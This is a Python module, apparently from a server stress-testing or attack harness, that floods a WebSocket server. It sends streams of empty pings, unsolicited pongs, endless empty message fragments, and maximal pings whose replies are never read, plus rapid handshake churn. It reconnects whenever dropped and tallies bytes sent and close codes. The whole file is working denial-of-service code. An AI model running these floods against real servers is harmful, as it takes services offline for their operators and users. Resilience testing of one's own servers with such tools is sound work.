"""Sockets that send what nobody counts: pings, pongs, empty parts of messages; and that never read the answers."""

from __future__ import annotations

import contextlib
import time
from collections import Counter
from collections.abc import Callable

from attacks.wire import HELLO, PING, PONG, REST, TEXT, WHOLE, Target, WebSocket, frame

Flood = Callable[[Target, float], Counter[str]]
#: Bytes in one piece, as fast as the network takes them.
_PIECE = 64 * 1024


def _flood(target: Target, seconds: float, piece: bytes, first: bytes = b"", reads: bool = True) -> Counter[str]:
    """Send one piece over and over; connect again whenever the server hangs up."""
    found: Counter[str] = Counter()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            socket = WebSocket(target, target.prepared["table"], received=None if reads else 4096)
        except OSError:
            found["refused"] += 1
            time.sleep(0.02)
            continue
        found["connections"] += 1
        socket.line.settimeout(0.5)
        try:
            if first:
                socket.line.sendall(first)
            while time.monotonic() < deadline:
                with contextlib.suppress(TimeoutError):
                    found["bytes"] += socket.line.send(piece)
                if reads:
                    _throw_away(socket)
        except OSError:
            pass
        code = socket.closed(0.2) if reads else None
        found["still open" if code is None else f"closed {code}"] += 1
        socket.close()
    return found


def _throw_away(socket: WebSocket) -> None:
    """Read what has come, if anything has."""
    socket.line.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        if not socket.line.recv(1 << 20):
            raise ConnectionError
    socket.line.settimeout(0.5)


def pings(target: Target, seconds: float) -> Counter[str]:
    """Empty pings of one anonymous socket."""
    return _flood(target, seconds, frame(WHOLE | PING) * (_PIECE // 6))


def pongs(target: Target, seconds: float) -> Counter[str]:
    """Pongs nobody asked for."""
    return _flood(target, seconds, frame(WHOLE | PONG) * (_PIECE // 6))


def fragments(target: Target, seconds: float) -> Counter[str]:
    """A message of empty parts that never ends."""
    return _flood(target, seconds, frame(REST) * (_PIECE // 6), frame(TEXT))


def unread(target: Target, seconds: float) -> Counter[str]:
    """Pings with as much in them as fits, and nobody who reads the pongs."""
    return _flood(target, seconds, frame(WHOLE | PING, b"x" * 125) * (_PIECE // 131), reads=False)


def handshakes(target: Target, seconds: float) -> Counter[str]:
    """A new socket, a hello that has seen nothing, and away."""
    found: Counter[str] = Counter()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            socket = WebSocket(target, target.prepared["table"])
            socket.send(HELLO)
            socket.receive()
            socket.close()
            found["sockets"] += 1
        except OSError:
            found["refused"] += 1
            time.sleep(0.005)
    return found
